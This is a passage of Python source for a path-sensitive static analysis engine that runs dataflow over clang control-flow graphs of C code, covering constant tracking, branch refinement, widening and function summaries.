                    kv = [a[1] for a in cur if a[0] == "__const__ " + e_["n"]]
                    if kv and kv[0] < 0:
                        done = True
                        break               # `return rc` with rc known negative on this path: an error return
                cur = set(a for a in cur if not a[0].startswith("__const__ "))
                out.add((ln, id(x), frozenset(cur)))
                rets[id(x)] = x
                done = True
                break
        if done:
            continue
        t = b.get("term")
        for k, sc in enumerate(b["succ"]):
            s = sc.get("b")
            if s is None:
                continue
            nxt = set(cur)
            if t is not None and "c" in t and len(b["succ"]) == 2:
                atoms_k = [(txt, tr) for (txt, tr, nd) in _cond_atoms(t["c"], k == 0)]
                if any((txt, not tr) in nxt for (txt, tr) in atoms_k):
                    continue           # contradicts an outcome already seen on this path
                for (txt, tr) in atoms_k:
                    if watch(txt):
                        nxt.add((txt, tr))
            stack.append((s, frozenset(nxt)))
    return out, rets


def escapes_const(fn, start_bid, is_pass, exempt_edge=None, target_expr=None, init_env=None, limit=20000, track_mem=(), call_kills=None, target_env=None):
    """Like escapes(), starting at the head of block start_bid, but path-sensitive in the integer constants last assigned
    to local variables: a branch on `v`, `!v`, `v == K`, `v != K`, `v < K`, `v >= K` whose outcome is decided by the
    constant held by v is followed only along the decided edge.  Returns None or the list of (block, line) of a path
    that reaches target_expr without an element satisfying is_pass.  track_mem: texts of member expressions (`ssl->err`)
    tracked like locals; any call kills them (the callee may store the field)."""
    import re
    seen = set()
    track_mem = set(track_mem)
    stack = [(start_bid, frozenset((init_env or {}).items()), [(start_bid, None)])]
    while stack and len(seen) < limit:
        bid, envf, path = stack.pop()
        if (bid, envf) in seen:
            continue
        seen.add((bid, envf))
        b = fn.bmap[bid]
        env = dict(envf)
        stop = False
        for i, ln, x in block_exprs(b):
            if is_pass(x):
                stop = True
                break
            if target_expr is not None and target_expr(x):
                return path + [(bid, ln)]
            if target_env is not None and target_env(x, env):
                return path + [(bid, ln)]
            if x.get("k") == "ret":
                stop = True
                break
            for m in walk(x):
                tgt = None
                if m.get("k") == "bin" and m["op"] == "=":
                    tgt = strip(m["l"])
                    r = strip(m["r"])
                    while r is not None and r.get("k") == "cast":
                        r = strip(r["e"])
                    if tgt is not None and tgt.get("k") == "mem" and track_mem and ftext(tgt) in track_mem:
                        if r is not None and r.get("k") == "int":
                            env[ftext(tgt)] = r["v"]
                        else:
                            env.pop(ftext(tgt), None)
                    if tgt is not None and tgt.get("k") == "var" and tgt.get("sc") == "l":
                        if r is not None and r.get("k") == "int":
                            env[tgt["n"]] = r["v"]
                        elif r is not None and r.get("k") == "un" and r["op"] == "-" and (strip(r["e"]) or {}).get("k") == "int":
                            env[tgt["n"]] = -strip(r["e"])["v"]
                        else:
                            env.pop(tgt["n"], None)
                elif m.get("k") == "decl" and "init" in m and (m.get("var") or {}).get("n"):
                    r = strip(m["init"])
                    if r is not None and r.get("k") == "int":
                        env[m["var"]["n"]] = r["v"]
                    else:
                        env.pop(m["var"]["n"], None)
                elif m.get("k") == "bin" and m["op"] in ("+=", "-=", "|=", "&=", "^=", "<<=", ">>="):
                    tgt = strip(m["l"])
                    if tgt is not None and tgt.get("k") == "var":
                        env.pop(tgt.get("n"), None)
                elif m.get("k") == "un" and m.get("op") in ("post++", "pre++", "post--", "pre--", "++", "--"):
                    tgt = strip(m["e"])
                    if tgt is not None and tgt.get("k") == "var":
                        env.pop(tgt.get("n"), None)
                elif m.get("k") == "call":
                    if call_kills is None or call_kills(m):
                        for tm in track_mem:
                            env.pop(tm, None)
                    for a in m.get("a", []):
                        a0 = strip(a)
                        if a0 is not None and a0.get("k") == "un" and a0["op"] == "&" and (strip(a0["e"]) or {}).get("k") == "var":
                            env.pop(strip(a0["e"]).get("n"), None)
        if stop:
            continue
        t = b.get("term")
        for k, sc in enumerate(b["succ"]):
            s_ = sc.get("b")
            if s_ is None:
                continue
            if exempt_edge is not None and exempt_edge(b, k):
                continue
            feasible = True
            if t is not None and "c" in t and len(b["succ"]) == 2:
                for (txt, tr, nd) in _cond_atoms(t["c"], k == 0):
                    m = re.match(r"^\(([\w>.-]+) (==|!=|<|<=|>|>=) (-?\d+)\)$", txt)
                    if m and m.group(1) in env:
                        v, op, kk = env[m.group(1)], m.group(2), int(m.group(3))
                        val = {"==": v == kk, "!=": v != kk, "<": v < kk, "<=": v <= kk, ">": v > kk, ">=": v >= kk}[op]
                        if val != tr:
                            feasible = False
                    elif re.match(r"^\w+$", txt) and txt in env:
                        if (env[txt] != 0) != tr:
                            feasible = False
            if feasible:
                stack.append((s_, frozenset(env.items()), path + [(s_, t.get("ln") if t else None)]))
    return None


def atom_lower_bound(txt, tr):
    """(lhs text, K) when the atom (txt, tr) establishes  lhs >= K  for an integer constant K:  (L < K) false, (L >= K) true,
    (L > K) true [K+1], (L <= K) false [K+1], (L == K) true; and the mirrored spellings (K > L) ...; else None."""
    import re
    m = re.fullmatch(r"\((.+) (<|<=|>|>=|==) (-?\d+)\)", txt)
    if m:
        l, op, k = m.group(1), m.group(2), int(m.group(3))
    else:
        m = re.fullmatch(r"\((-?\d+) (<|<=|>|>=|==) (.+)\)", txt)
        if not m:
            return None
        k, op, l = int(m.group(1)), {"<": ">", "<=": ">=", ">": "<", ">=": "<=", "==": "=="}[m.group(2)], m.group(3)
    if op == "<" and not tr:
        return (l, k)
    if op == ">=" and tr:
        return (l, k)
    if op == ">" and tr:
        return (l, k + 1)
    if op == "<=" and not tr:
        return (l, k + 1)
    if op == "==" and tr:
        return (l, k)
    return None


def edge_atoms(b, k):
    """Atoms established by taking successor k of block b (two-way branches only)."""
    t = b.get("term")
    if not t or "c" not in t or len(b["succ"]) != 2 or t.get("k") == "switch":
        return []
    return [(txt, tr) for (txt, tr, nd) in _cond_atoms(t["c"], k == 0)]


def ret_negative_in(x, env):
    """`return v` where the constant last assigned to the local v on this path (env of escapes_const) is negative"""
    e = strip(x.get("e")) if x.get("e") is not None else None
    while e is not None and e.get("k") == "cast":
        e = strip(e["e"])
    return e is not None and e.get("k") == "var" and e.get("n") in env and env[e["n"]] < 0
