"""Property simulation: path-sensitive forward dataflow over the clang CFG.

The abstract state at a program point is a *set of valuations* of a small
tuple of tracked terms chosen by the rule (struct fields by (record, field),
integer / pointer locals, rule-defined typestate entries).  Branch edges filter
valuations, assignments update them, calls apply return-conditioned summaries
of the callee (computed by the same engine on the callee's body) or havoc
exactly what the mod/ref analysis says the callee may write.  Two paths are
merged only when they agree on the whole tracked tuple, so correlations such as
"rc < 0 iff ssl->err != NONE" survive joins.  Everything not tracked is
ignored, which makes the set of explored paths a superset of the feasible
ones: a rule that holds on every explored valuation holds on every execution
of the analysed configuration.
"""
import sys

from . import absval as av
from .absval import BOT, TOP, S
from .cg import WHOLE, type_record
from .ir import ASSIGN_OPS, lvalue_root, strip, strip_imp, walk

sys.setrecursionlimit(20000)
RET = ("R",)
WRITTEN = ("W",)

INT_TYPES = {
    "char": (8, True), "signed char": (8, True), "unsigned char": (8, False),
    "short": (16, True), "unsigned short": (16, False),
    "int": (32, True), "unsigned int": (32, False),
    "long": (64, True), "unsigned long": (64, False),
    "long long": (64, True), "unsigned long long": (64, False),
    "_Bool": (1, False),
}


def freeze(d):
    return frozenset(d.items())


def has_effects(e):
    """True when evaluating e may change state (assignment, ++, call)."""
    c = e.get("_fx")
    if c is not None:
        return c
    r = False
    for n in walk(e):
        k = n.get("k")
        if k == "call" or k == "decl" or k == "ret" or k == "asm" or k == "stmtexpr":
            r = True
            break
        if k == "bin" and n["op"] in ASSIGN_OPS:
            r = True
            break
        if k == "un" and n["op"] in ("++", "--", "post++", "post--"):
            r = True
            break
    e["_fx"] = r
    return r


class Tracker:
    """Rule configuration; subclass and override."""
    name = "tracker"
    max_states = 3000
    max_states_summary = 8000
    max_tuples = 96
    max_exact_tuples = 40
    max_rec_iters = 14
    summary_depth = 6

    def __init__(self):
        self.keys = set()          # tracked ("F", rec, field) / ("G", name)
        self.event_fns = set()     # names of functions whose calls are events
        self.summarize_readers = set()  # pure readers of tracked state worth a summary
        self.bitmask = {}          # key -> mask of the only bits worth tracking
        self.extern_ret = {}       # external fn name -> abstract return value

    def track_local(self, fn, var):
        """Whether local/param `var` (IR var node) is tracked."""
        t = var.get("t", "")
        return t in INT_TYPES or t.endswith("*")

    # hooks (may return a replacement state / list)
    def on_call(self, ps, node, state, argvals):
        return None

    def after_call(self, ps, node, state, val):
        return state

    def on_store(self, ps, node, key, val, state):
        return state

    def on_branch(self, ps, cond, truth, state):
        return state

    def entry_state(self, fn):
        return {}

    def call_tag(self, ps, node):
        """Return a tag (hashable) for the result of this call, or None.  When the
        tagged result (directly, or after being stored in a tracked local) is later
        refined by a branch, on_tag_refine is invoked on the refined state."""
        return None

    def on_tag_refine(self, ps, tag, val, state):
        return state

    def track_deref(self, fn, var):
        """Whether *var (var a pointer parameter/local) is tracked as a term."""
        return False

    def extra_locals(self, fn):
        """ids of locals to track besides those feeding conditions/returns"""
        return set()

    fold_arith = False
    readers_relevant = True
    export_events = frozenset()   # names of typestate entries that survive a return to the caller
    sentinels = frozenset()

    # reporting hooks
    def visit_call(self, ps, block, node, state, argvals):
        pass

    def visit_ret(self, ps, block, node, state, val):
        pass

    def visit_store(self, ps, block, node, key, val, state):
        pass

    def visit_element(self, ps, block, el, state):
        pass

    def visit_edge(self, ps, block, succ_index, state):
        pass

    def visit_expr(self, ps, block, ln, expr, state):
        """Called (report pass) with the state *before* each top-level element / branch condition."""
        pass

    def join_event(self, key, a, b):
        return "?"


class Summary:
    __slots__ = ("tuples", "widened")

    def __init__(self, tuples, widened):
        self.tuples = tuples      # list of (retval, {key: val}, frozenset(written))
        self.widened = widened


class Engine:
    """Holds program, call graph, tracker and the summary memo table."""

    def __init__(self, prog, cg, tracker):
        self.prog = prog
        self.cg = cg
        self.tr = tracker
        self.summaries = {}
        self.in_progress = []
        self.provisional = {}
        self.dep_stack = []
        self._tests = {}
        self._embedded = {}
        self._relevant = {}
        self.stats = {"functions": 0, "states": 0, "widened": 0, "summaries": 0}

    # ---- relevance: does a callee touch tracked state at all?
    def relevant(self, qname):
        r = self._relevant.get(qname)
        if r is not None:
            return r
        tr = self.tr
        reach = self.cg.reachable_from(qname)
        r = False
        for q in reach:
            fnobj = self.prog.functions.get(q)
            if fnobj is not None and tr.export_events and fnobj.name in tr.event_fns:
                r = True
                break
            w = self.cg.direct_writes.get(q, ())
            if tr.keys & set(w):
                r = True
                break
            if fnobj is not None and fnobj.name in tr.summarize_readers:
                r = True
                break
            if tr.readers_relevant and fnobj is not None and self.tests_tracked(fnobj):
                r = True
                break
            if any(k[0] == "F" and ("F", k[1], WHOLE) in w for k in tr.keys):
                r = True
                break
        if not r:
            # calls through tracked slots inside?
            pass
        self._relevant[qname] = r
        return r

    def keys_under(self, rec):
        """Tracked field keys that live in record `rec` or in a record embedded in it by value."""
        r = self._embedded.get(rec)
        if r is not None:
            return r
        recs = set()
        st = [rec]
        while st:
            x = st.pop()
            if x in recs:
                continue
            recs.add(x)
            rd = self.prog.records.get(x)
            if rd:
                for f in rd["fields"]:
                    if f.get("rec") and "*" not in f.get("t", ""):
                        st.append(f["rec"])
        r = frozenset(k for k in self.tr.keys if k[0] == "F" and k[1] in recs)
        self._embedded[rec] = r
        return r

    def tests_tracked(self, fnobj):
        """Does fnobj branch on a tracked key (directly)?"""
        c = self._tests.get(fnobj.qname)
        if c is not None:
            return c
        c = False
        keys = self.tr.keys
        for b in fnobj.blocks:
            t = b.get("term")
            if t is None or "c" not in t:
                continue
            for n in walk(t["c"]):
                if n.get("k") == "mem" and ("F", n.get("r"), n["f"]) in keys:
                    c = True
                    break
                if n.get("k") == "var" and "id" not in n and ("G", n["n"]) in keys:
                    c = True
                    break
            if c:
                break
        self._tests[fnobj.qname] = c
        return c

    def summary(self, fnobj, bindings=frozenset()):
        """Return-conditioned summary of fnobj.  Recursion is solved by
        fixpoint iteration from the empty summary (a recursive call that
        cannot return yet contributes no post-state).  `bindings` is a set of
        (parameter index, tracked key): the argument is a read of that key, so
        tests of the parameter inside the callee constrain the key's entry value."""
        q = fnobj.qname
        if bindings:
            q = (fnobj.qname, bindings)
        if q in self.summaries:
            return self.summaries[q]
        if q in self.in_progress:
            for d in self.dep_stack:
                d.add(q)
            return self.provisional[q]
        self.in_progress.append(q)
        self.provisional[q] = Summary([], False)
        deps = set()
        self.dep_stack.append(deps)
        sm = None
        converged = False
        try:
            for it in range(self.tr.max_rec_iters):
                deps.discard(q)
                run = FunctionRun(self, fnobj, summary_mode=True, bindings=bindings)
                run.solve()
                sm = Summary(run.exit_tuples(), run.widened)
                self.stats["summaries"] += 1
                if q not in deps:
                    converged = True
                    break
                # monotone iteration: the provisional summary only grows
                b = dict(((rv, freeze(fv), w), (rv, fv, w)) for (rv, fv, w) in self.provisional[q].tuples)
                grew = False
                for t in sm.tuples:
                    k = (t[0], freeze(t[1]), t[2])
                    if k not in b:
                        b[k] = t
                        grew = True
                sm = Summary(list(b.values()), sm.widened or self.provisional[q].widened)
                if not grew:
                    converged = True
                    break
                self.provisional[q] = sm
        finally:
            self.in_progress.pop()
            del self.provisional[q]
            self.dep_stack.pop()
        if not converged:
            # sound fallback: everything the function may write is unknown
            w = frozenset(k for k in self.tr.keys if self.cg.may_write(fnobj.qname, k))
            sm = Summary(sm.tuples + [(TOP, {}, w)], True)
        deps.discard(q)
        if not (deps & set(self.in_progress)):
            self.summaries[q] = sm
        return sm

    def analyze(self, fnobj, entry=None, report=True):
        run = FunctionRun(self, fnobj, summary_mode=False, entry=entry)
        run.solve()
        if report:
            run.report()
        return run


class FunctionRun:
    def __init__(self, engine, fn, summary_mode=False, entry=None, bindings=frozenset()):
        self.bindings = bindings
        self.alias = {}
        self.eng = engine
        self.prog = engine.prog
        self.cg = engine.cg
        self.tr = engine.tr
        self.fn = fn
        self.summary_mode = summary_mode
        self.entry = entry
        self.IN = {}
        self.parent = {}
        self.collapsed = set()
        self.widened = False
        self.cut = False
        self.reporting = False
        self.cur_block = None
        self.addr_taken = self._addr_taken()
        self.tracked_locals = {}
        self.cond_locals = self._cond_locals()
        for p in fn.params:
            if p.get("id") in self.cond_locals and self.tr.track_local(fn, p):
                self.tracked_locals[p.get("id")] = p
        self.exit_states = []
        self.store_old = TOP
        self.pe_used = set()
        for b, ln, n in fn.nodes():
            if "pe" in n and n.get("k") != "int":
                self.pe_used.add(n["pe"])
        self.live_in = self._liveness()
        if bindings:
            assigned = set()
            for b, ln, n in fn.nodes():
                if n.get("k") == "bin" and n["op"] in ASSIGN_OPS:
                    l = strip(n["l"])
                    if l is not None and l.get("k") == "var" and "id" in l:
                        assigned.add(l["id"])
                elif n.get("k") == "un" and n["op"] in ("++", "--", "post++", "post--", "&"):
                    l = strip(n["e"])
                    if l is not None and l.get("k") == "var" and "id" in l:
                        assigned.add(l["id"])
            for (i, key) in bindings:
                if i < len(fn.params):
                    pid = fn.params[i].get("id")
                    if pid is not None and pid not in assigned:
                        self.alias[pid] = key

    def _cond_locals(self):
        """Locals whose value can influence a branch or the return value:
        those read in a branch condition / return expression, closed under
        'is copied into such a local'."""
        fn = self.fn
        ids = set()
        copies = []
        for b in fn.blocks:
            t = b.get("term")
            if t is not None and "c" in t:
                for n in walk(t["c"]):
                    if n.get("k") == "var" and "id" in n:
                        ids.add(n["id"])
            for el in b["el"]:
                x = el["x"]
                if x.get("k") == "ret":
                    for n in walk(x):
                        if n.get("k") == "var" and "id" in n:
                            ids.add(n["id"])
                for n in walk(x):
                    if n.get("k") == "bin" and n["op"] == "=":
                        l = strip(n["l"])
                        if l is not None and l.get("k") == "var" and "id" in l:
                            src = [m["id"] for m in walk(n["r"]) if m.get("k") == "var" and "id" in m]
                            copies.append((l["id"], src))
                    elif n.get("k") == "decl" and "init" in n and "id" in (n.get("var") or {}):
                        src = [m["id"] for m in walk(n["init"]) if m.get("k") == "var" and "id" in m]
                        copies.append((n["var"]["id"], src))
                    elif n.get("k") == "cond" or ("pe" in n and n.get("k") == "bin"):
                        for m in walk(n):
                            if m.get("k") == "var" and "id" in m:
                                ids.add(m["id"])
        extra = self.tr.extra_locals(fn)
        ids |= extra
        changed = True
        while changed:
            changed = False
            for dst, src in copies:
                if dst in ids:
                    for s_ in src:
                        if s_ not in ids:
                            ids.add(s_)
                            changed = True
        return ids

    def _liveness(self):
        """Backward liveness of locals per block (ids); address-taken locals
        are kept live everywhere."""
        fn = self.fn
        use = {}
        deff = {}
        for b in fn.blocks:
            u, d = set(), set()
            items = [el["x"] for el in b["el"]]
            t = b.get("term")
            if t is not None and "c" in t:
                items.append(t["c"])
            for x in items:
                self._use_def(x, u, d)
                for n in walk(x):
                    if "pe" in n and n.get("k") != "int":
                        u.add(("C", n["pe"]))
            if t is not None and "tid" in t:
                d.add(("C", t["tid"]))
            use[b["id"]] = u
            deff[b["id"]] = d
        live = {b["id"]: set() for b in fn.blocks}
        changed = True
        while changed:
            changed = False
            for b in fn.blocks:
                out = set()
                for sc in b["succ"]:
                    if sc.get("b") is not None:
                        out |= live[sc["b"]]
                new = use[b["id"]] | (out - deff[b["id"]])
                if new != live[b["id"]]:
                    live[b["id"]] = new
                    changed = True
        for k in live:
            live[k] |= self.addr_taken
        return live

    def _use_def(self, x, u, d):
        """Approximate per-expression use/def in evaluation order: a variable
        is 'defined' only by a plain assignment / declaration with initialiser
        at the top of the expression tree before any use."""
        k = x.get("k")
        if k == "decl":
            v = x.get("var") or {}
            if "init" in x:
                self._use_def(x["init"], u, d)
            if "id" in v and v["id"] not in u:
                d.add(v["id"])
            return
        if k == "bin" and x["op"] == "=":
            l = strip(x["l"])
            self._use_def(x["r"], u, d)
            if l is not None and l.get("k") == "var" and "id" in l:
                if l["id"] not in u:
                    d.add(l["id"])
                return
            self._use_def(x["l"], u, d)
            return
        for n in walk(x):
            if n.get("k") == "var" and "id" in n and n["id"] not in d:
                u.add(n["id"])

    def _addr_taken(self):
        s = set()
        for b, ln, n in self.fn.nodes():
            if n.get("k") == "un" and n["op"] == "&":
                r = lvalue_root(n["e"])
                if r and r[0] == "var" and "id" in r[1]:
                    # &p[i] / &p->f with p a pointer takes the address of what p points to, not of p
                    if strip(n["e"]) is not r[2] and (r[1].get("t") or "").endswith("*"):
                        continue
                    s.add(r[1]["id"])
        return s

    # ------------------------------------------------------------ keys
    def key_of(self, e):
        """Tracked key for lvalue expression e (through casts), else None."""
        e = strip(e)
        if e is None:
            return None
        k = e.get("k")
        if k == "var":
            if "id" in e:
                if e["id"] in self.tracked_locals:
                    return ("L", e["id"])
                if e["id"] in self.cond_locals and self.tr.track_local(self.fn, e):
                    self.tracked_locals[e["id"]] = e
                    return ("L", e["id"])
                return None
            key = ("G", e["n"])
            return key if key in self.tr.keys else None
        if k == "mem" and "r" in e:
            key = ("F", e["r"], e["f"])
            if key in self.tr.keys:
                t = e.get("t", "")
                return key
        if k == "un" and e["op"] == "*":
            p = strip(e["e"])
            if p is not None and p.get("k") == "var" and "id" in p and self.tr.track_deref(self.fn, p):
                return ("D", p["id"])
        return None

    # ------------------------------------------------------------ solve
    def solve(self):
        fn = self.fn
        self.eng.stats["functions"] += 1
        if fn.entry is None:
            return
        st0 = dict(self.tr.entry_state(fn))
        if self.entry:
            st0.update(self.entry)
        f0 = freeze(st0)
        self.IN[fn.entry] = {f0}
        work = [(fn.entry, f0)]
        self.parent[(fn.entry, f0)] = None
        steps = 0
        while work:
            bid, fs = work.pop()
            if bid in self.collapsed and fs not in self.IN[bid]:
                continue
            steps += 1
            if steps > 400000:
                self.widened = True
                self.cut = True
                break
            block = fn.bmap[bid]
            outs = self.flow_block(block, dict(fs))
            for (sidx, sb, ns) in outs:
                lv = self.live_in.get(sb)
                if lv is not None:
                    dead = [k for k in ns if (k[0] == "L" and k[1] not in lv) or
                            (k[0] == "C" and k not in lv) or
                            (k[0] == "T" and k[1][1] not in lv)]
                    if dead:
                        ns = dict(ns)
                        for k in dead:
                            del ns[k]
                nf = freeze(ns)
                cur = self.IN.setdefault(sb, set())
                if sb in self.collapsed:
                    old = next(iter(cur)) if cur else None
                    if old is None:
                        merged = nf
                    else:
                        merged = freeze(self.join_states(dict(old), ns))
                    if merged != old:
                        self.IN[sb] = {merged}
                        self.parent.setdefault((sb, merged), (bid, fs, sidx))
                        work.append((sb, merged))
                    continue
                if nf in cur:
                    continue
                cur.add(nf)
                self.parent[(sb, nf)] = (bid, fs, sidx)
                if len(cur) > (self.tr.max_states_summary if self.summary_mode else self.tr.max_states):
                    # widen: collapse all valuations of this block into their join
                    self.widened = True
                    self.eng.stats["widened"] += 1
                    self.collapsed.add(sb)
                    acc = None
                    for x in cur:
                        acc = dict(x) if acc is None else self.join_states(acc, dict(x))
                    merged = freeze(acc)
                    self.IN[sb] = {merged}
                    self.parent.setdefault((sb, merged), (bid, fs, sidx))
                    work.append((sb, merged))
                else:
                    work.append((sb, nf))
        self.eng.stats["states"] += sum(len(v) for v in self.IN.values())

    def join_states(self, a, b):
        out = {}
        for k in set(a) | set(b):
            if k not in a or k not in b:
                if k[0] in ("E",):
                    va = a.get(k)
                    vb = b.get(k)
                    out[k] = self.tr.join_event(k, va, vb)
                elif k == WRITTEN:
                    out[k] = a.get(k, frozenset()) | b.get(k, frozenset())
                elif k[0] == "WB":
                    out[k] = a.get(k, 0) | b.get(k, 0)
                # numeric: absent = TOP
                continue
            if k[0] == "E":
                out[k] = a[k] if a[k] == b[k] else self.tr.join_event(k, a[k], b[k])
            elif k == WRITTEN:
                out[k] = a[k] | b[k]
            elif k[0] == "WB":
                out[k] = a[k] | b[k]
            elif k[0] in ("C", "T"):
                if a[k] == b[k]:
                    out[k] = a[k]
            else:
                j = av.join(a[k], b[k])
                if j is not TOP:
                    out[k] = j
        return out

    # ------------------------------------------------------------ blocks
    def flow_block(self, block, state):
        """Return list of (succ_index, succ_block, state)."""
        self.cur_block = block
        states = [state]
        for el in block["el"]:
            nxt = []
            for s in states:
                if self.reporting:
                    self.tr.visit_element(self, block, el, s)
                    self.tr.visit_expr(self, block, el["ln"], el["x"], s)
                for (s2, v, ref) in self.eval(el["x"], s):
                    nxt.append(s2)
            states = self.dedup(nxt)
            if not states:
                return []
        succ = block["succ"]
        term = block.get("term")
        outs = []
        if self.reporting and term is not None and "c" in term:
            for s in states:
                self.tr.visit_expr(self, block, term["ln"], term["c"], s)
        if term is not None and "c" in term and len(succ) >= 2:
            if term["k"] == "switch":
                cases = [(i, sc) for i, sc in enumerate(succ)]
                for s in states:
                    for (s2, v, ref) in self.eval(term["c"], s):
                        covered = []
                        for i, sc in cases:
                            if "case" in sc:
                                lo = sc["case"]
                                hi = sc.get("hi", lo)
                                covered.append((lo, hi))
                        for i, sc in cases:
                            if sc.get("b") is None:
                                continue
                            if "case" in sc:
                                lo = sc["case"]
                                hi = sc.get("hi", lo)
                                if lo == hi:
                                    nv = av.cmp_filter(v, "==", lo)
                                else:
                                    nv = av.cmp_filter(av.cmp_filter(v, ">=", lo), "<=", hi)
                                if nv == BOT:
                                    continue
                                ns = dict(s2)
                                self.refine(ns, ref, nv)
                                ns = self.tag_refined(ns, ref, nv)
                                if lo == hi and hasattr(self.tr, "on_switch_case"):
                                    # the tracker's view of `scrutinee == case constant` (same hook as a two-way branch on it)
                                    ns2 = self.tr.on_switch_case(self, term, lo, ns)
                                    if ns2 is not None:
                                        ns = ns2
                                outs.append((i, sc["b"], ns))
                            else:
                                nv = v
                                for (lo, hi) in covered:
                                    if lo == hi:
                                        nv = av.cmp_filter(nv, "!=", lo)
                                    if nv == BOT:
                                        break
                                if nv == BOT:
                                    continue
                                ns = dict(s2)
                                self.refine(ns, ref, nv)
                                outs.append((i, sc["b"], ns))
            else:
                tid = term.get("tid")
                for s in states:
                    ts, fs = self.branch(term["c"], s)
                    for i, lst in ((0, ts), (1, fs)):
                        if i >= len(succ) or succ[i].get("b") is None:
                            continue
                        for ns in lst:
                            if tid is not None and tid in self.pe_used:
                                ns = dict(ns)
                                ns[("C", tid)] = (i == 0)
                            ns = self.tr.on_branch(self, term, i == 0, ns)
                            if ns is None:
                                continue
                            outs.append((i, succ[i]["b"], ns))
        else:
            for s in states:
                for i, sc in enumerate(succ):
                    if sc.get("b") is not None:
                        outs.append((i, sc["b"], s))
        if self.reporting:
            for (i, sb, ns) in outs:
                self.tr.visit_edge(self, block, i, ns)
        if block["id"] == self.fn.exit or not succ:
            pass
        return outs

    def dedup(self, states):
        seen = set()
        out = []
        for s in states:
            f = freeze(s)
            if f not in seen:
                seen.add(f)
                out.append(s)
        return out

    # ------------------------------------------------------------ refinement
    def refine(self, state, ref, newval):
        """Record a refined value for the lvalue described by ref."""
        if ref is None:
            return
        if ref[0] == "k":
            self.refine_val(state, ref[1], newval)

    def tag_refined(self, ns, ref, newval):
        """Invoke the tracker's tag hook when a tagged call result is refined."""
        if ref is None:
            return ns
        tag = None
        if ref[0] == "t":
            tag = ref[1]
        elif ref[0] == "k":
            tag = ns.get(("T", ref[1]))
        if tag is None:
            return ns
        r = self.tr.on_tag_refine(self, tag, newval, ns)
        return ns if r is None else r

    def refine_val(self, state, key, val):
        """A branch refined the value of key: record it, and (in summary mode, while the
        key has not been assigned yet) as a pre-condition on the value at function entry."""
        self.setval(state, key, val)
        if key[0] == "L" and key[1] in self.alias:
            k2 = self.alias[key[1]]
            if k2 not in state.get(WRITTEN, ()):
                m = av.meet(state.get(k2, TOP), val)
                if m != BOT:
                    self.setval(state, k2, m)
                    if m is not TOP:
                        state[("P", k2)] = state.get(k2, TOP)
                        if state[("P", k2)] is TOP:
                            del state[("P", k2)]
        if self.summary_mode and key[0] in ("F", "G") and key not in state.get(WRITTEN, ()):
            if val is TOP:
                state.pop(("P", key), None)
            else:
                state[("P", key)] = state.get(key, TOP)
                if state[("P", key)] is TOP:
                    del state[("P", key)]

    def setval(self, state, key, val):
        bm = self.tr.bitmask.get(key)
        if bm is not None and val is not TOP and val != BOT:
            if val[0] == "S":
                val = av.to_bits(val)
            if val is not None and val[0] == "B":
                val = av.norm(("B", val[1] & bm, val[2] & bm))
            else:
                val = TOP
        if val is TOP:
            state.pop(key, None)
        else:
            state[key] = val

    def branch(self, c, state):
        """Evaluate condition c in state; return (true_states, false_states)."""
        c0 = strip_imp(c)
        k = c0.get("k")
        if k == "un" and c0["op"] == "!":
            t, f = self.branch(c0["e"], state)
            return f, t
        if k == "cast":
            # explicit cast in a condition: value-preserving for truth unless narrowing
            return self.branch(c0["e"], state)
        if k == "bin" and c0["op"] in ("==", "!=", "<", "<=", ">", ">="):
            return self.branch_cmp(c0, state)
        if k == "bin" and c0["op"] in ("&&", "||") and "pe" in c0:
            # a logical operator under `!` / inside a larger condition: its left operand was branched on in an earlier block
            # (choice recorded), its right operand was only evaluated there - refine on it here, without its side effects
            tid = c0["pe"]
            ch = state.get(("C", tid))
            ns = state
            if ch is not None:
                ns = dict(state)
                del ns[("C", tid)]
            saved = getattr(self, "force_pure", False)
            self.force_pure = True
            try:
                # the left operand: its truth was recorded when this operator's terminator ran; when it did not run on this
                # path (a nested operator short-circuited past it) the operand is evaluated again, which consults the nested
                # operator's own record
                tl, fl = self.branch(c0["l"], ns)
                if ch is True:
                    tl, fl = (tl or [ns]), []
                elif ch is False:
                    tl, fl = [], (fl or [ns])
                if c0["op"] == "&&":
                    ts, fs = [], list(fl)
                    for s_ in tl:
                        t2, f2 = self.branch(c0["r"], s_)
                        ts += t2
                        fs += f2
                else:
                    ts, fs = list(tl), []
                    for s_ in fl:
                        t2, f2 = self.branch(c0["r"], s_)
                        ts += t2
                        fs += f2
                return ts, fs
            finally:
                self.force_pure = saved
        if k == "bin" and c0["op"] in ("&&", "||") and "pe" not in c0:
            # not decomposed by the CFG (should not happen): conservative
            outs = self.eval(c0, state)
            return [s for (s, v, r) in outs], [s for (s, v, r) in outs]
        ts, fs = [], []
        for (s, v, ref) in self.eval(c0, state):
            if ref is not None and ref[0] == "m":
                key, mask = ref[1], ref[2]
                cur = s.get(key, TOP)
                tv = av.mask_filter(cur, mask, True)
                fv = av.mask_filter(cur, mask, False)
                if tv != BOT:
                    ns = dict(s)
                    self.refine_val(ns, key, tv)
                    ts.append(ns)
                if fv != BOT:
                    ns = dict(s)
                    self.refine_val(ns, key, fv)
                    fs.append(ns)
                continue
            tv = av.truth_filter(v, True)
            fv = av.truth_filter(v, False)
            if tv != BOT:
                ns = dict(s)
                if ref is not None and ref[0] == "k":
                    self.refine_val(ns, ref[1], tv)
                ts.append(self.tag_refined(ns, ref, tv))
            if fv != BOT:
                ns = dict(s)
                if ref is not None and ref[0] == "k":
                    self.refine_val(ns, ref[1], fv)
                fs.append(self.tag_refined(ns, ref, fv))
        return ts, fs

    def branch_cmp(self, c, state):
        op = c["op"]
        ts, fs = [], []
        for (s1, lv, lref) in self.eval(c["l"], state):
            for (s2, rv, rref) in self.eval(c["r"], s1):
                # re-read left value if the right side had effects on it
                rc = av.is_const(rv)
                lc = av.is_const(lv)
                if rc is not None:
                    self._cmp_one(s2, lv, lref, op, rc, ts, fs)
                elif lc is not None:
                    self._cmp_one(s2, rv, rref, av.SWAP[op], lc, ts, fs)
                else:
                    # both non-constant: enumerate small sets, else both ways
                    if lv is not TOP and rv is not TOP and lv[0] == "S" and rv[0] == "S":
                        import operator
                        f = {"==": operator.eq, "!=": operator.ne, "<": operator.lt,
                             "<=": operator.le, ">": operator.gt, ">=": operator.ge}[op]
                        res = set(f(a, b) for a in lv[1] for b in rv[1])
                        if True in res:
                            ts.append(dict(s2))
                        if False in res:
                            fs.append(dict(s2))
                    else:
                        ts.append(dict(s2))
                        fs.append(dict(s2))
        return ts, fs

    def _cmp_one(self, s, v, ref, op, c, ts, fs):
        if ref is not None and ref[0] == "m":
            key, mask = ref[1], ref[2]
            cur = s.get(key, TOP)
            if op in ("==", "!="):
